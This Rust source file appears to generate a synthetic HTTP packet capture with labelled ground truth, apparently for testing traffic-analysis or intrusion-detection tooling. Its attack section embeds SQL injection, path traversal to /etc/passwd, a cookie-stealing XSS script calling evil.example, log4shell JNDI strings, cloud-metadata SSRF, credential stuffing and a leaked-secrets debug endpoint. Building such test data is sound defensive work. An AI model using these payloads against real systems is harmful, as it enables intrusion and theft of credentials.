    fn person_json(&mut self, id: &str, c: (&str, &str)) -> String {
        let (first, last) = c;
        let email = format!("{}.{}@example.com", first.to_lowercase(), last.to_lowercase());
        format!(
            r#"{{"id":{id},"first_name":"{first}","last_name":"{last}","email":"{email}","phone":"+1-202-555-0{:03}","date_of_birth":"{}-{:02}-{:02}","ssn":"{:03}-{:02}-{:04}","address":{{"line1":"{} {}","city":"{}","country":"US"}},"created_at":"2024-0{}-1{}T08:1{}:00Z"}}"#,
            self.rng.below(200),
            1950 + self.rng.below(55),
            1 + self.rng.below(12),
            1 + self.rng.below(28),
            100 + self.rng.below(800),
            10 + self.rng.below(89),
            1000 + self.rng.below(9000),
            1 + self.rng.below(9000),
            self.pick(&STREETS),
            self.pick(&CITIES),
            1 + self.rng.below(9),
            self.rng.below(10),
            self.rng.below(10),
        )
    }

    fn run(&mut self) {
        // ~57 ordinary clients: office LAN, VPN pool and public (documentation) ranges.
        let mut clients = Vec::new();
        for i in 0..57u8 {
            let ip = match i % 3 {
                0 => IpAddr::from([10, 0, 12, 20 + i]),
                1 => IpAddr::from([198, 51, 100, 30 + i]),
                _ => IpAddr::from([172, 16, 4, 100 + i]),
            };
            let c = self.client(ip);
            clients.push(c);
        }
        let attacker = IpAddr::from([203, 0, 113, 66]);
        let bola = IpAddr::from([198, 51, 100, 23]);
        let partner = IpAddr::from([192, 0, 2, 45]);
        self.truth.attacker = Some(attacker);
        self.truth.bola_client = Some(bola);

        // One connection to be left idle, early in the capture so the idle timeout expires before the end.
        let Some(c) = clients.first().cloned() else { return };
        let mut conv = self.open(c.ip, Svc::Users, 2_000_000_000);
        let body = self.person_json("\"me\"", c.name);
        self.exchange(
            &mut conv,
            Svc::Users,
            "HTTP/1.1",
            c.user_agent,
            Req::new("GET", "/v1/users/me").h("Authorization", format!("Bearer {}", c.jwt)),
            Resp::json(200, body),
            None,
        );
        self.truth.idle_flows += 1;
        self.finish(conv);

        // Ordinary sessions spread over ~21 minutes (long enough for the idle connection to time out).
        let sessions = 78u64;
        for s in 0..sessions {
            let Some(c) = clients.get((s as usize * 7 + 3) % clients.len()).cloned() else { continue };
            let at = 5_000_000_000 + s * 16_000_000_000 + self.rng.below(3_000_000_000);
            let svc = match self.rng.below(10) {
                0..=4 => Svc::Shop,
                5..=7 => Svc::Users,
                8 => Svc::Payments,
                _ => Svc::Config,
            };
            let v10 = self.rng.below(12) == 0;
            let version = if v10 { "HTTP/1.0" } else { "HTTP/1.1" };
            let mut conv = self.open(c.ip, svc, at);
            let n = if v10 { 1 } else { 2 + self.rng.below(6) };
            for _ in 0..n {
                let (req, resp) = self.ordinary(svc, &c);
                self.exchange(&mut conv, svc, version, c.user_agent, req, resp, None);
            }
            if s == 20 && !v10 {
                // The browser navigates away mid-connection: RST from the client.
                conv.reset(Dir::ToServer);
                self.truth.rst_flows += 1;
            } else if s == 51 && !v10 {
                // The server drops the keep-alive connection hard.
                conv.reset(Dir::ToClient);
                self.truth.rst_flows += 1;
            } else if v10 {
                conv.close_from(Dir::ToClient);
                self.truth.fin_flows += 1;
            } else {
                conv.close();
                self.truth.fin_flows += 1;
            }
            self.finish(conv);
        }

        // A partner integration with Basic auth and an API key.
        let mut conv = self.open(partner, Svc::Payments, 250_000_000_000);
        let basic = {
            use base64::Engine as _;
            base64::engine::general_purpose::STANDARD.encode("partner-acme:Pa55w0rd!2024")
        };
        let key = format!("pk_live_{:016x}{:08x}", self.rng.next_u64(), self.rng.next_u64() as u32);
        self.truth.secrets.push(basic.clone());
        for i in 0..4 {
            let id = format!("po_{:024x}", u128::from(self.rng.next_u64()) << 32 | u128::from(i as u32));
            let body = format!(
                r#"{{"id":"{id}","amount":{},"currency":"EUR","destination":{{"iban":"{}","holder":"Acme GmbH"}},"status":"paid"}}"#,
                1000 + self.rng.below(90_000),
                self.pick(&IBANS)
            );
            let req = Req::new("GET", format!("/v1/payouts/{id}"))
                .h("Authorization", format!("Basic {basic}"))
                .h("X-API-Key", key.clone())
                .h("Accept", "application/json");
            self.exchange(
                &mut conv,
                Svc::Payments,
                "HTTP/1.1",
                "acme-erp-connector/2.1",
                req,
                Resp::json(200, body),
                None,
            );
        }
        conv.close();
        self.truth.fin_flows += 1;
        self.finish(conv);

        self.bola(bola, 420_000_000_000);
        self.attacks(attacker, 700_000_000_000);
    }

    /// One ordinary request of a legitimate client to `svc` and the service's answer.
    fn ordinary(&mut self, svc: Svc, c: &Client) -> (Req, Resp) {
        let bearer = format!("Bearer {}", c.jwt);
        let cookie = format!(
            "session={}; cart_id={}; _ga=GA1.2.{}.1705312800",
            c.session,
            self.rng.below(1 << 30),
            self.rng.below(1 << 30)
        );
        let roll = self.rng.below(100);
        match svc {
            Svc::Shop => match roll {
                0..=24 => {
                    let page = 1 + self.rng.below(5);
                    let per = [10, 20, 50][self.rng.below(3) as usize];
                    let items: Vec<String> = (0..per)
                        .map(|i| {
                            format!(
                                r#"{{"id":{},"sku":"SKU-{:05}","name":"Product {i}","price":{}.99,"in_stock":{}}}"#,
                                10_000 + page * 100 + i,
                                self.rng.below(99_999),
                                self.rng.below(400),
                                self.rng.below(2) == 0
                            )
                        })
                        .collect();
                    let body =
                        format!(r#"{{"page":{page},"per_page":{per},"total":1243,"items":[{}]}}"#, items.join(","));
                    let mut resp = Resp::json(200, body).h("Cache-Control", "max-age=60");
                    if self.rng.below(2) == 0 {
                        resp = resp.gzip();
                    }
                    if self.rng.below(3) == 0 {
                        resp = resp.chunked();
                    }
                    (
                        Req::new("GET", format!("/api/v2/products?page={page}&per_page={per}"))
                            .h("Accept", "application/json")
                            .h("Accept-Encoding", "gzip, deflate, br"),
                        resp,
                    )
                }
                25..=39 => {
                    let id = 10_000 + self.rng.below(2000);
                    let etag = format!("\"{:08x}\"", self.rng.next_u64() as u32);
                    if self.rng.below(3) == 0 {
                        (
                            Req::new("GET", format!("/api/v1/products/{id}")).h("If-None-Match", etag.clone()),
                            Resp::new(304).h("ETag", etag).h("Cache-Control", "max-age=60"),
                        )
                    } else if self.rng.below(8) == 0 {
                        (
                            Req::new("GET", format!("/api/v1/products/{id}")),
                            Resp::json(404, r#"{"error":"not_found","message":"product not found"}"#.into()),
                        )
                    } else {
                        let body = format!(
                            r#"{{"id":{id},"name":"Wireless Headphones X{}","description":"Over-ear, noise cancelling, 30h battery.","price":{}.00,"currency":"USD","images":["https://cdn.shop.example/p/{id}/1.jpg"]}}"#,
                            self.rng.below(9),
                            50 + self.rng.below(300)
                        );
                        (Req::new("GET", format!("/api/v1/products/{id}")), Resp::json(200, body).h("ETag", etag))
                    }
                }
                40..=49 => {
                    let q = ["wireless+headphones", "usb-c%20cable", "running%20shoes", "coffee"]
                        [self.rng.below(4) as usize];
                    if self.rng.below(6) == 0 {
                        (
                            Req::new("GET", format!("/api/v2/search?q={q}&page=1")),
                            Resp::json(429, r#"{"error":"rate_limited","retry_after":30}"#.into())
                                .h("Retry-After", "30")
                                .h("X-RateLimit-Remaining", "0"),
                        )
                    } else {
                        let body = format!(
                            r#"{{"query":"{q}","results":[{{"id":{},"score":0.93}},{{"id":{},"score":0.81}}]}}"#,
                            self.rng.below(20_000),
                            self.rng.below(20_000)
                        );
                        (
                            Req::new("GET", format!("/api/v2/search?q={q}&page=1&per_page=20")),
                            Resp::json(200, body).h("X-RateLimit-Remaining", format!("{}", self.rng.below(100))),
                        )
                    }
                }
                50..=64 => {
                    let body = format!(
                        r#"{{"cart_id":"{:024x}","items":[{{"sku":"SKU-{:05}","qty":{}}}],"subtotal":{}.50}}"#,
                        u128::from(self.rng.next_u64()),
                        self.rng.below(99_999),
                        1 + self.rng.below(3),
                        self.rng.below(500)
                    );
                    (Req::new("GET", "/api/v1/cart").h("Cookie", cookie), Resp::json(200, body))
                }
                65..=74 => {
                    let hex =
                        format!("{:024x}", u128::from(self.rng.next_u64()) << 32 | u128::from(self.rng.below(1 << 32)));
                    (Req::new("DELETE", format!("/api/v1/cart/items/{hex}")).h("Cookie", cookie), Resp::new(204))
                }
                75..=89 => {
                    let order = uuid(&mut self.rng);
                    let card = self.pick(&CARDS);
                    let req_body = format!(
                        r#"{{"items":[{{"sku":"SKU-{:05}","qty":1}}],"shipping_address":{{"name":"{} {}","line1":"{} {}","city":"{}","phone":"+44 20 7946 0{:03}"}},"payment":{{"card_number":"{card}","exp_month":12,"exp_year":2028,"cvc":"123"}}}}"#,
                        self.rng.below(99_999),
                        c.name.0,
                        c.name.1,
                        1 + self.rng.below(900),
                        self.pick(&STREETS),
                        self.pick(&CITIES),
                        self.rng.below(1000)
                    );
                    if self.rng.below(7) == 0 {
                        (
                            Req::new("POST", "/api/v1/orders").h("Cookie", cookie).json(req_body),
                            Resp::json(
                                400,
                                r#"{"error":"validation_failed","fields":{"payment.card_number":"card declined"}}"#
                                    .into(),
                            ),
                        )
                    } else {
                        let resp_body = format!(
                            r#"{{"id":"{order}","status":"confirmed","total":{}.95}}"#,
                            10 + self.rng.below(400)
                        );
                        (
                            Req::new("POST", "/api/v1/orders").h("Cookie", cookie).json(req_body),
                            Resp::json(201, resp_body).h("Location", format!("/api/v1/orders/{order}")),
                        )
                    }
                }
                _ => {
                    let email = format!("{}.{}@example.com", c.name.0.to_lowercase(), c.name.1.to_lowercase());
                    let body = format!(r#"{{"email":"{email}","password":"Summer2024!{}"}}"#, self.rng.below(100));
                    let resp_body =
                        format!(r#"{{"access_token":"{}","token_type":"Bearer","expires_in":3600}}"#, c.jwt);
                    (
                        Req::new("POST", "/api/v1/auth/login").json(body),
                        Resp::json(200, resp_body)
                            .h("Set-Cookie", format!("session={}; Path=/; HttpOnly; Secure; SameSite=Lax", c.session)),
                    )
                }
            },
            Svc::Users => {
                match roll {
                    0..=29 => {
                        let body = self.person_json(&c.user_id.to_string(), c.name);
                        (
                            Req::new("GET", "/v1/users/me").h("Authorization", bearer).h("Accept", "application/json"),
                            Resp::json(200, body),
                        )
                    }
                    30..=49 => {
                        let email = format!(
                            "{}.{}%40example.com",
                            self.pick(&FIRST).to_lowercase(),
                            self.pick(&LAST).to_lowercase()
                        );
                        let n = 1 + self.rng.below(3);
                        let users: Vec<String> = (0..n)
                            .map(|_| {
                                let id = (1000 + self.rng.below(9000)).to_string();
                                let who = (self.pick(&FIRST), self.pick(&LAST));
                                self.person_json(&id, who)
                            })
                            .collect();
                        let mut resp =
                            Resp::json(200, format!(r#"{{"data":[{}],"page":1,"per_page":20}}"#, users.join(",")));
                        if self.rng.below(3) == 0 {
                            resp = resp.chunked();
                        }
                        if self.rng.below(2) == 0 {
                            resp = resp.gzip();
                        }
                        (
                            Req::new("GET", format!("/v1/users?email={email}&page=1&per_page=20"))
                                .h("Authorization", bearer),
                            resp,
                        )
                    }
                    50..=64 => {
                        let id = uuid(&mut self.rng);
                        let body = format!(
                            r#"{{"user_id":"{id}","addresses":[{{"type":"home","line1":"{} {}","city":"{}"}},{{"type":"billing","line1":"{} {}","city":"{}"}}]}}"#,
                            1 + self.rng.below(900),
                            self.pick(&STREETS),
                            self.pick(&CITIES),
                            1 + self.rng.below(900),
                            self.pick(&STREETS),
                            self.pick(&CITIES)
                        );
                        (
                            Req::new("GET", format!("/v2/users/{id}/addresses")).h("Authorization", bearer),
                            Resp::json(200, body),
                        )
                    }
                    65..=79 => {
                        let id = uuid(&mut self.rng);
                        let phone = format!("+49 30 {:07}", self.rng.below(10_000_000));
                        if self.rng.below(4) == 0 {
                            (
                            Req::new("PATCH", format!("/v2/users/{id}"))
                                .h("Authorization", bearer)
                                .json(format!(r#"{{"phone":"{phone}","date_of_birth":"31/02/1990"}}"#)),
                            Resp::json(400, r#"{"status":400,"error":"Bad Request","message":"date_of_birth: must be ISO-8601"}"#.into()),
                        )
                        } else {
                            (
                                Req::new("PATCH", format!("/v2/users/{id}"))
                                    .h("Authorization", bearer)
                                    .json(format!(r#"{{"phone":"{phone}","marketing_opt_in":false}}"#)),
                                Resp::json(200, format!(r#"{{"id":"{id}","phone":"{phone}","updated":true}}"#)),
                            )
                        }
                    }
                    80..=87 => {
                        let id = 1000 + self.rng.below(9000);
                        (
                            Req::new("GET", format!("/v1/users/{id}/ssn")).h("Authorization", bearer),
                            Resp::json(403, r#"{"status":403,"error":"Forbidden","message":"Access Denied"}"#.into()),
                        )
                    }
                    88..=93 => (
                        Req::new("GET", "/v1/users/me/preferences"),
                        Resp::json(
                            401,
                            r#"{"status":401,"error":"Unauthorized","message":"Full authentication is required"}"#
                                .into(),
                        )
                        .h("WWW-Authenticate", "Bearer realm=\"users\""),
                    ),
                    _ => {
                        let id = 1000 + self.rng.below(9000);
                        let body = format!(
                            r#"{{"timestamp":"2026-01-15T09:0{}:12.345+00:00","status":500,"error":"Internal Server Error","trace":"{JAVA_TRACE}","path":"/v1/users/{id}"}}"#,
                            self.rng.below(10)
                        );
                        (Req::new("GET", format!("/v1/users/{id}")).h("Authorization", bearer), Resp::json(500, body))
                    }
                }
            }
            Svc::Payments => {
                let key = format!("sk_test_{:016x}", self.rng.next_u64());
                match roll {
                    0..=49 => {
                        let card = self.pick(&CARDS);
                        let id = format!("pay_{:016x}", self.rng.next_u64());
                        let req_body = format!(
                            r#"{{"amount":{},"currency":"usd","card":{{"number":"{card}","exp":"12/28","cvc":"314","name":"{} {}"}},"billing_email":"{}.{}@example.com"}}"#,
                            100 + self.rng.below(50_000),
                            c.name.0,
                            c.name.1,
                            c.name.0.to_lowercase(),
                            c.name.1.to_lowercase()
                        );
                        let last4 = card.get(card.len().saturating_sub(4)..).unwrap_or("4242");
                        (
                            Req::new("POST", "/v1/payments")
                                .h("Authorization", bearer)
                                .h("X-API-Key", key)
                                .json(req_body),
                            Resp::json(
                                201,
                                format!(r#"{{"id":"{id}","status":"succeeded","card":{{"last4":"{last4}"}}}}"#),
                            )
                            .h("Location", format!("/v1/payments/{id}")),
                        )
                    }
                    50..=79 => {
                        let id = format!("pay_{:016x}", self.rng.next_u64());
                        let body = format!(
                            r#"{{"id":"{id}","amount":{},"status":"succeeded","refund_iban":"{}","customer":{{"email":"{}.{}@example.com"}}}}"#,
                            100 + self.rng.below(50_000),
                            self.pick(&IBANS),
                            c.name.0.to_lowercase(),
                            c.name.1.to_lowercase()
                        );
                        (Req::new("GET", format!("/v1/payments/{id}")).h("X-API-Key", key), Resp::json(200, body))
                    }
                    _ => {
                        let id = format!("ch_{:016x}", self.rng.next_u64());
                        (
                            Req::new("POST", "/v1/refunds")
                                .h("X-API-Key", key)
                                .json(format!(r#"{{"charge":"{id}","reason":"requested_by_customer"}}"#)),
                            Resp::new(500).h("Content-Type", "text/plain; charset=utf-8").body(PY_TRACE.to_owned()),
                        )
                    }
                }
            }
            Svc::Config => match roll {
                0..=59 => (
                    Req::new("GET", "/api/internal/health"),
                    Resp::json(200, r#"{"status":"UP","db":"UP","cache":"UP"}"#.into()),
                ),
                _ => {
                    let body: String = (0..40)
                        .map(|i| {
                            format!(
                                "http_requests_total{{service=\"users\",code=\"200\",shard=\"{i}\"}} {}\n",
                                self.rng.below(1_000_000)
                            )
                        })
                        .collect();
                    (
                        Req::new("GET", "/api/internal/metrics"),
                        Resp::new(200).h("Content-Type", "text/plain; version=0.0.4").body(body).gzip().chunked(),
                    )
                }
            },
        }
    }

    /// One client with a valid token walks `/api/v1/users/{id}` over sequential ids (BOLA / IDOR).
    fn bola(&mut self, ip: IpAddr, at: u64) {
        let c = self.client(ip);
        let mut conv = self.open(ip, Svc::Shop, at);
        for id in 1001..1031u64 {
            let missing = id % 9 == 0;
            let resp = if missing {
                Resp::json(404, r#"{"error":"not_found"}"#.into())
            } else {
                let who = (self.pick(&FIRST), self.pick(&LAST));
                let body = self.person_json(&id.to_string(), who);
                Resp::json(200, body)
            };
            let req = Req::new("GET", format!("/api/v1/users/{id}")).h("Authorization", format!("Bearer {}", c.jwt));
            self.exchange(&mut conv, Svc::Shop, "HTTP/1.1", "python-requests/2.31.0", req, resp, Some("bola"));
            // Scripted: much faster than a person.
            conv.wait(0);
        }
        conv.close();
        self.truth.fin_flows += 1;
        self.finish(conv);
    }

    fn attacks(&mut self, ip: IpAddr, mut at: u64) {
        let ua = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0";
        let mut next = |d: &mut Demo, svc: Svc| {
            at += 4_000_000_000;
            d.open(ip, svc, at)
        };

        // Scanner walking well-known paths.
        let mut conv = next(self, Svc::Shop);
        for p in ["/admin", "/.env", "/wp-login.php", "/actuator/env", "/.git/config", "/phpmyadmin/", "/server-status"]
        {
            let resp = Resp::new(404).h("Content-Type", "text/html").body(
                "<html>\r\n<head><title>404 Not Found</title></head>\r\n<body>\r\n<center><h1>404 Not Found</h1></center>\r\n<hr><center>nginx/1.22.1</center>\r\n</body>\r\n</html>\r\n".into(),
            );
            self.exchange(
                &mut conv,
                Svc::Shop,
                "HTTP/1.1",
                "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
                Req::new("GET", p),
                resp,
                Some("scanner"),
            );
        }
        conv.close();
        self.truth.fin_flows += 1;
        self.finish(conv);

        // SQL injection in query parameters.
        let mut conv = next(self, Svc::Shop);
        let sqli = [
            ("/api/v2/search?q=laptop'%20OR%201=1--&page=1", 500),
            (
                "/api/v2/products?page=1&per_page=20&category=1%27%20UNION%20SELECT%20username,password,email%20FROM%20users--",
                500,
            ),
            ("/api/v1/products?id=1'%20OR%20'1'='1", 400),
        ];
        for (uri, status) in sqli {
            let body = if status == 500 {
                r#"{"error":"internal","detail":"ERROR: syntax error at or near \"OR\" (SQLSTATE 42601)"}"#
            } else {
                r#"{"error":"bad_request"}"#
            };
            self.exchange(
                &mut conv,
                Svc::Shop,
                "HTTP/1.1",
                "sqlmap/1.7.2#stable (https://sqlmap.org)",
                Req::new("GET", uri),
                Resp::json(status, body.into()),
                Some("sqli"),
            );
        }
        conv.close();
        self.truth.fin_flows += 1;
        self.finish(conv);

        // Path traversal.
        let mut conv = next(self, Svc::Shop);
        for uri in ["/static/../../etc/passwd", "/api/v1/files?name=..%2F..%2F..%2F..%2Fetc%2Fpasswd"] {
            self.exchange(
                &mut conv,
                Svc::Shop,
                "HTTP/1.1",
                "curl/8.4.0",
                Req::new("GET", uri),
                Resp::json(400, r#"{"error":"bad_request"}"#.into()),
                Some("path_traversal"),
            );
        }
        conv.close();
        self.truth.fin_flows += 1;
        self.finish(conv);

        // Stored XSS through a JSON field, with a stolen token.
        let victim = self.client(ip);
        let mut conv = next(self, Svc::Users);
        let body = r#"{"display_name":"<script>fetch('https://evil.example/c?'+document.cookie)</script>","bio":"<img src=x onerror=alert(1)>"}"#;
        self.exchange(
            &mut conv,
            Svc::Users,
            "HTTP/1.1",
            ua,
            Req::new("PATCH", "/v1/users/me").h("Authorization", format!("Bearer {}", victim.jwt)).json(body.into()),
            Resp::json(200, r#"{"updated":true}"#.into()),
            Some("xss"),
        );
        // log4shell in the User-Agent (the Java service).
        self.exchange(
            &mut conv,
            Svc::Users,
            "HTTP/1.1",
            ua,
            Req::new("GET", "/v1/users/search?q=test")
                .h("User-Agent", "${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}")
                .h("X-Api-Version", "${jndi:ldap://203.0.113.66:1389/a}"),
            Resp::json(400, r#"{"status":400,"error":"Bad Request"}"#.into()),
            Some("log4shell"),
        );
        conv.close();
        self.truth.fin_flows += 1;
        self.finish(conv);

        // SSRF: the image fetcher reads the cloud metadata service.
        let mut conv = next(self, Svc::Shop);
        self.exchange(
            &mut conv,
            Svc::Shop,
            "HTTP/1.1",
            ua,
            Req::new("GET", "/api/v1/images/fetch?url=http://169.254.169.254/latest/meta-data/"),
            Resp::new(200).h("Content-Type", "text/plain").body(
                "ami-id\nami-launch-index\nhostname\niam/\ninstance-id\nlocal-ipv4\npublic-keys/\nsecurity-groups\n"
                    .into(),
            ),
            Some("ssrf"),
        );
        self.exchange(
            &mut conv,
            Svc::Shop,
            "HTTP/1.1",
            ua,
            Req::new("GET", "/api/v1/images/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/shop-web-role"),
            Resp::json(200, r#"{"Code":"Success","Type":"AWS-HMAC","AccessKeyId":"ASIAZ3EXAMPLE7QWERTY","SecretAccessKey":"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY","Token":"IQoJb3JpZ2luX2VjEXAMPLE","Expiration":"2026-01-15T15:00:00Z"}"#.into()),
            Some("ssrf"),
        );
        conv.close();
        self.truth.fin_flows += 1;
        self.finish(conv);

        // Credential stuffing: a burst of failed logins on one connection, then the rate limiter.
        let mut conv = next(self, Svc::Shop);
        for i in 0..16u64 {
            let email =
                format!("{}.{}{}@example.com", self.pick(&FIRST).to_lowercase(), self.pick(&LAST).to_lowercase(), i);
            let pw = ["123456", "password1", "qwerty123", "Summer2023!", "letmein", "iloveyou"][(i % 6) as usize];
            let req =
                Req::new("POST", "/api/v1/auth/login").json(format!(r#"{{"email":"{email}","password":"{pw}"}}"#));
            let resp = if i == 15 {
                Resp::json(429, r#"{"error":"too_many_attempts"}"#.into()).h("Retry-After", "300")
            } else {
                Resp::json(401, r#"{"error":"invalid_credentials"}"#.into())
                    .h("WWW-Authenticate", "Bearer error=\"invalid_token\"")
            };
            self.exchange(
                &mut conv,
                Svc::Shop,
                "HTTP/1.1",
                "python-requests/2.31.0",
                req,
                resp,
                Some("credential_stuffing"),
            );
            conv.wait(0);
        }
        conv.close();
        self.truth.fin_flows += 1;
        self.finish(conv);

        // An internal debug endpoint reachable without authentication, leaking secrets.
        let mut conv = next(self, Svc::Config);
        let secrets = r#"{"env":"production","database_url":"postgres://app:Xk9!vQ2#pL@db.internal.example:5432/shop","aws_access_key_id":"AKIAIOSFODNN7EXAMPLE","aws_secret_access_key":"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY","stripe_secret_key":"sk_live_51HExampleExampleExample","jwt_signing_key":"s3cr3t-signing-key-do-not-share","debug":true}"#;
        self.exchange(
            &mut conv,
            Svc::Config,
            "HTTP/1.1",
            "curl/8.4.0",
            Req::new("GET", "/api/internal/debug/config").h("Accept", "*/*"),
            Resp::json(200, secrets.into()),
            Some("debug_config"),
        );
        conv.close();
        self.truth.fin_flows += 1;
        self.finish(conv);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn luhn(s: &str) -> bool {
        let digits: Vec<u32> = s.chars().filter_map(|c| c.to_digit(10)).collect();
        let sum: u32 = digits
            .iter()
            .rev()
            .enumerate()
            .map(|(i, &d)| if i % 2 == 1 { (d * 2) % 9 + u32::from(d == 9) * 9 } else { d })
            .sum();
        !digits.is_empty() && sum.is_multiple_of(10)
    }

    #[test]
    fn demo_is_deterministic_and_small() {
        let (a, truth) = demo_capture(DEMO_SEED);
        let b = demo_traffic(DEMO_SEED);
        assert_eq!(a, b);
        assert_ne!(a, demo_traffic(DEMO_SEED + 1));
        let pcap_bytes: usize = 24 + a.iter().map(|(_, f)| 16 + f.len()).sum::<usize>();
        assert!(pcap_bytes < 800 * 1024, "{pcap_bytes}");
        assert!(a.windows(2).all(|w| w[0].0 <= w[1].0), "sorted by time");
        assert!((55..=65).contains(&truth.clients), "{}", truth.clients);
        assert_eq!(truth.fin_flows + truth.rst_flows + truth.idle_flows, truth.flows);
        assert_eq!((truth.rst_flows, truth.idle_flows), (2, 1));
        let conns: std::collections::BTreeSet<_> = truth.transactions.iter().map(|t| t.client).collect();
        assert_eq!(conns.len(), truth.flows, "every connection carries at least one transaction");
    }

    #[test]
    fn demo_data_is_well_formed() {
        for c in CARDS {
            assert!(luhn(c), "{c}");
        }
        assert!(!luhn("4242424242424241"));
        let mut rng = Rng(3);
        let token = jwt(&mut rng, 42, "jane.doe@example.com", 1_768_471_200);
        let parts: Vec<_> = token.split('.').collect();
        assert_eq!(parts.len(), 3);
        use base64::Engine as _;
        let dec = |s: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(s).unwrap();
        let header: serde_json::Value = serde_json::from_slice(&dec(parts[0])).unwrap();
        assert_eq!(header, serde_json::json!({"alg": "HS256", "typ": "JWT"}));
        let payload: serde_json::Value = serde_json::from_slice(&dec(parts[1])).unwrap();
        assert_eq!((payload["sub"].as_str(), payload["exp"].as_u64()), (Some("42"), Some(1_768_471_200)));
        assert_eq!(dec(parts[2]).len(), 32);
        let u = uuid(&mut rng);
        assert_eq!(u.len(), 36);
        assert_eq!(u.as_bytes()[14], b'4');
        assert!(matches!(u.as_bytes()[19], b'8' | b'9' | b'a' | b'b'), "{u}");
        assert_eq!(http_date(Timestamp::from_secs(1_768_467_600)), "Thu, 15 Jan 2026 09:00:00 GMT");
        assert_eq!(http_date(Timestamp::from_secs(951_782_400)), "Tue, 29 Feb 2000 00:00:00 GMT");
    }

    #[test]
    fn chunked_bodies_reassemble() {
        let body: Vec<u8> = (0..5000u32).map(|i| (i % 251) as u8).collect();
        let wire = chunk(&body, &mut Rng(9));
        let mut rest = wire.as_slice();
        let mut out = Vec::new();
        loop {
            let nl = rest.windows(2).position(|w| w == b"\r\n").unwrap();
            let n = usize::from_str_radix(std::str::from_utf8(&rest[..nl]).unwrap(), 16).unwrap();
            rest = &rest[nl + 2..];
            if n == 0 {
                assert_eq!(rest, b"\r\n");
                break;
            }
            out.extend_from_slice(&rest[..n]);
            rest = &rest[n + 2..];
        }
        assert_eq!(out, body);
        assert!(gzip(&body).len() < body.len());
    }
}
